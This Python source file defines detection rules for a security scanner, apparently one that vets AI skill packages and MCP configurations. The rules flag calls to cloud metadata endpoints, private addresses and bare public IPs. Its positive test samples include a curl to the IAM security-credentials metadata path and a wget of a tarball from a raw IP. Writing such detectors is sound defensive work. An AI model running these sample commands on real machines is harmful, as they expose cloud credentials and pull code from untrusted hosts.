"""Rules for network access to metadata endpoints, private and raw public addresses."""

from __future__ import annotations

from skillmeat_pipeline.lib.trust.examples import fenced, mcp_json, script, skill_md
from skillmeat_pipeline.lib.trust.model import MEDIUM, Rule
from skillmeat_pipeline.lib.trust.predicates_commands import (
    accept_metadata,
    accept_private_address,
    accept_public_ip,
)

_R = Rule
NETWORK_RULES: tuple[Rule, ...] = (
    _R(
        "network.metadata_endpoint",
        MEDIUM,
        "network to non-public addresses",
        "Cloud metadata addresses: `169.254.169.254`, `metadata.google.internal`, "
        "`100.100.100.200`.",
        "Calls the cloud metadata service, which hands out the machine's credentials.",
        "Metadata endpoints return cloud credentials to any process that asks.",
        positives=(
            script("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
            script(
                'requests.get("http://metadata.google.internal/computeMetadata/v1/")',
                "scripts/m.py",
            ),
        ),
        negatives=(
            skill_md("Never call 169.254.169.254 from a skill."),
            script("curl http://localhost:8080/metadata"),
        ),
        triggers=("url", "curl", "wget"),
        accept=accept_metadata,
    ),
    _R(
        "network.private_address",
        MEDIUM,
        "network to non-public addresses",
        "URLs to private, link-local or carrier-grade NAT addresses (10/8, 172.16/12, "
        "192.168/16, 169.254/16, 100.64/10, fc00::/7, fe80::/10); not loopback or 0.0.0.0.",
        "Connects to an address on a private network; check that it is meant to.",
        "An artifact has no business reaching into the user's internal network.",
        positives=(
            mcp_json('{"type": "http", "url": "http://10.0.3.7:8080/mcp"}'),
            fenced("curl http://192.168.1.20/api/status"),
        ),
        negatives=(
            fenced("open http://127.0.0.1:3000 and http://localhost:5173"),
            script("curl http://192.0.2.10/doc-example"),
        ),
        triggers=("url", "curl", "wget"),
        accept=accept_private_address,
    ),
    _R(
        "network.raw_public_ip",
        MEDIUM,
        "network to non-public addresses",
        "URLs whose host is a literal public IP address (not documentation ranges, not 0.0.0.0).",
        "Connects to a bare IP address; a legitimate service has a name.",
        "Raw addresses hide who runs the server and are typical of throwaway infrastructure.",
        positives=(
            mcp_json('{"type": "sse", "url": "http://45.77.12.34:8000/sse"}'),
            script("wget http://93.184.216.34/tools.tar.gz"),
        ),
        negatives=(
            script("python -m http.server --bind 0.0.0.0 8000  # http://0.0.0.0:8000"),
            fenced("curl https://cdn.example.com/lib/1.2.3.4/x.js"),
        ),
        triggers=("url", "curl", "wget"),
        accept=accept_public_ip,
    ),
)
